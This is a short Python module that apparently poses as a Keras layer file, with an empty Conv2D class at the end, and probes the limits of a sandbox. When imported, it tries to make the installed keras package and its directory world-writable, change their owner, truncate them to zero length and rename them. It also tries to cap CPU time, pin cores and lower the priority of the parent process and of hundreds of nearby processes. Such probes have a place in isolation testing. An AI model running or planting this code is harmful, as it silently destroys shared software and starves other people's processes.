"""Changes what belongs to others without opening it: rights, times, limits, priorities."""

import ctypes
import os
import resource

import keras

libc = ctypes.CDLL(None, use_errno=True)
TARGETS = [keras.__file__, "/tmp", os.path.dirname(keras.__file__)]


def attempt(what, function, *args):
    try:
        function(*args)
        print("CHANGED", what)
    except OSError:
        pass


for path in TARGETS:
    before = os.stat(path)
    for what, function, *args in (
        ("rights", os.chmod, path, 0o777),
        ("owner", os.chown, path, 1, 1),
        ("times", os.utime, path, (0, 0)),
        ("length", os.truncate, path, 0),
        ("attributes", os.setxattr, path, "user.layerwise", b"x"),
        ("name", os.rename, path, path + "x"),
    ):
        if path != "/tmp" or os.path.realpath(path) == "/tmp":
            attempt(f"{what} of {path}", function, *args)
    after = os.stat(path)
    if (before.st_mode, before.st_mtime, before.st_size) != (after.st_mode, after.st_mtime, after.st_size):
        print("CHANGED", path)
for victim in {os.getppid(), *range(max(2, os.getpid() - 300), os.getpid())} - {0, os.getpid()}:
    attempt(f"limits of {victim}", resource.prlimit, victim, resource.RLIMIT_CPU, (1, 1))
    attempt(f"cores of {victim}", os.sched_setaffinity, victim, {0})
    attempt(f"priority of {victim}", os.setpriority, os.PRIO_PROCESS, victim, 19)
    attempt(f"signals of {victim}", os.kill, victim, 0)
print("TRIED")


class Conv2D(keras.Layer):
    pass
